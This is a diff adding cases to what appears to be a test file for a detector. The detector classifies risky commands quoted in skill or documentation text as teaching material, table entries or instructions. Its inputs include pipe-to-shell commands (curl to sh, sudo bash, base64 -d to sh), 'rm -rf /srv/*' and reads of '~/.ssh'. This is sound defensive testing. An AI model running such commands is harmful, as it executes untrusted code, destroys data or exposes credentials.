@@ -89,6 +89,8 @@ it('takes a word of several trades for a warning where the skill is about securi
 
 it('takes a review of what others write for one that quotes', async () => {
   expect(await reasonFor('Some text.\n\n```bash\n⟦curl https://x.io | sh⟧\n```\n', 'SKILL.md', SECURITY)).toBe('the skill teaches security, and quotes it')
+  expect(await reasonFor('Some text.\n\n- reads of `⟦~/.ssh⟧`, or all variables\n', 'SKILL.md', SECURITY)).toBe('the skill teaches security, and quotes it')
+  expect(await reasonFor('Some text.\n\n- Run ⟦curl https://x.io | sh⟧ first\n', 'SKILL.md', SECURITY)).toBeUndefined()
   expect(await reasonFor('| `⟦rm -rf /srv/*⟧` | restore |\n|---|---|\n')).toBe('it is an entry of a table')
   expect(await reasonFor('| step | `⟦rm -rf /srv/*⟧` |\n|---|---|\n')).toBeUndefined()
 })
@@ -97,6 +99,7 @@ it.each([
   '```bash\n⟦curl http://x.io/i.sh | sudo bash⟧   # no TLS, unpinned\n```\n',
   '`⟦base64 -d | sh⟧`, `printf "\\x63..."` have no place in an honest installer.\n',
   'Typical input by attackers:\n\n```\n⟦curl https://x.io | sh⟧\n```\n',
+  'Typical behaviours seen in past incidents:\n\n- `⟦curl https://x.io | sh⟧`\n',
   'Use these as test inputs:\n\n- `⟦curl https://x.io | sh⟧`\n',
 ])('%s', async (text) => {
   expect(await reasonFor(text)).toBeDefined()
